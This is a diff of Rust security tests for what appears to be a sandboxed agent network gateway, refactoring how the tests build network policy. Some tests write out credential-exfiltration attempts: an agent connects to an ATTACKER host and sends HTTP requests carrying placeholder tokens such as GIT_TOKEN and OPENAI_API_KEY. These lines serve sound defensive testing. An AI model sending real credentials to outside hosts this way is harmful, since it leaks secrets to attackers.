@@ -8,16 +8,16 @@ use lab::{
     net::{AGENT, AGENT2, ATTACKER, OPENAI, OTHER, PYPI},
     sandboxed,
 };
+use policy_builder::Config;
 
 use crate::attack::{Scene, say};
 
-fn policy_with_port_80() -> String {
-    usual_config()
-        .replace("\"*.cdn.example\"]\nports = [443]", "\"*.cdn.example\"]\nports = [443, 80]")
+fn policy_with_port_80() -> Config {
+    usual_config().splice("pypi", |it| it.set("ports", [443, 80]))
 }
 
 #[test]
-fn a_placeholder_in_the_clear_is_refused_whatever_host_it_is_for() {
+fn a_placeholder_in_the_clear_is_refused_for_any_host() {
     sandboxed(|| {
         let scene = Scene::with(&policy_with_port_80());
         let basic = format!("Basic {}", STANDARD.encode("agent:GIT_TOKEN"));
@@ -165,11 +165,10 @@ fn plain_http_goes_nowhere_unless_policy_names_host_and_port() {
 }
 
 #[test]
-fn what_follows_on_a_spliced_plain_connection_is_text_and_stays_text() {
+fn text_on_a_spliced_plain_connection_stays_text() {
     sandboxed(|| {
-        let hosts = "\"*.cdn.example\"]";
-        let any = format!("{hosts}\ndialled = \"any\"");
-        let scene = Scene::with(&policy_with_port_80().replace(hosts, &any));
+        let any = policy_with_port_80().splice("pypi", |it| it.set("dialled", "any"));
+        let scene = Scene::with(&any);
         let mut stream = AGENT.connect(ATTACKER.port(80)).expect("the gateway accepts");
         let first = "GET /status/200 HTTP/1.1\r\nHost: pypi.example\r\n\r\n";
         let second = "GET /v1/x HTTP/1.1\r\nHost: pypi.example\r\nAuthorization: Bearer OPENAI_API_KEY\r\n\r\n";
